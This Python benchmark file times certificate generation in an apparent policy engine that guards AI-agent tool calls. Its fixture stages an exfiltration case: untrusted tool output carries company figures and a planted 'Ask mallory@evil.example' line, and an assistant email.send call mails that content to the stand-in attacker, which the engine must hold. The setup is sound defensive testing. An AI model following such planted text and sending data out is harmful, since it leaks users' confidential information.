"""Certificates of grave decisions: made anew, and found made before for the same policy and facts.

The baseline of the second is the first: the gain of the cache.
"""

from __future__ import annotations

from collections.abc import Iterator

from benches.harness import Baseline, Bench

from aimds.policy import Engine, Session, load

PAGE = "Quarterly numbers: revenue 4.2 million, margin 18 percent. Ask mallory@evil.example"


def session(set_name: str, reads: int) -> Session:
    """A session of the shipped set that holds its last call."""
    made = Session(Engine(load(set_name)))
    common = {"covered": True, "scores": []}
    for number in range(reads):
        made.judge(
            {**common, "kind": "tool_result", "trust": "untrusted", "time_ms": number, "text": f"{number} {PAGE}"}
        )
    arguments = {"to": ["mallory@evil.example"], "body": PAGE}
    call = {"kind": "tool_call", "role": "assistant", "trust": "user", "tool": "email.send", "arguments": arguments}
    decision = made.judge({**common, **call, "id": "c", "time_ms": reads})
    assert decision.verdict != "allow", "the bench measures a held call"
    return made


def entries() -> Iterator[Bench]:
    """A short past and a long one."""
    for set_name, reads in (("no_exfiltration", 3), ("starter", 3), ("starter", 40)):
        held = session(set_name, reads)
        held.certify()
        case = f"{set_name}, {reads} reads"
        fresh = lambda held=held: held.certify(fresh=True)  # noqa: E731
        yield Bench("certificate.made", case, fresh, goal_p99_us=50_000)
        yield Bench("certificate.found", case, held.certify, Baseline("made anew", fresh))
